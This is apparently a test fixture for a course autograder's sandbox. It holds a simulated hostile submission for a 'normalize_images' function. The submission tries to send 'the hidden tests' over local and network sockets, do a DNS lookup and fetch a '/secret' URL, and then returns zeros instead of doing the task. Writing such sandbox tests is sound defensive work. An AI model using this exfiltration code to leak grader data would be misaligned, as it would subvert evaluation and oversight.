"""Sends what it knows to servers on this machine and to the network: TCP, UDP, IPv6, a name that is looked up."""

from tests.hostile.expected import Expected

ASSIGNMENT = "05_shallow_backprop"
ANSWERS = {
    "normalize_images": """
import socket
import urllib.request

def send():
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {PORT})),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {PORT})),
        (socket.AF_INET, socket.SOCK_STREAM, ("localhost", {PORT})),
        (socket.AF_INET6, socket.SOCK_STREAM, ("::1", {PORT})),
        (socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", {PORT})),
        (socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
        (socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)),
    ):
        try:
            with socket.socket(family, kind) as channel:
                channel.settimeout(0.2)
                channel.connect(address)
                channel.send(b"the hidden tests")
        except OSError as error:
            print(type(error).__name__)
    try:
        socket.setdefaulttimeout(0.3)
        print(socket.gethostbyname("secret.example.invalid"))
    except OSError as error:
        print(type(error).__name__)
    try:
        urllib.request.urlopen("http://127.0.0.1:{PORT}/secret", timeout=0.3)
    except OSError as error:
        print(type(error).__name__)

send()

def normalize_images(x):
    send()
    return np.zeros(np.shape(x))
"""
}
EXPECT = Expected(earned={"normalize_images": 0})
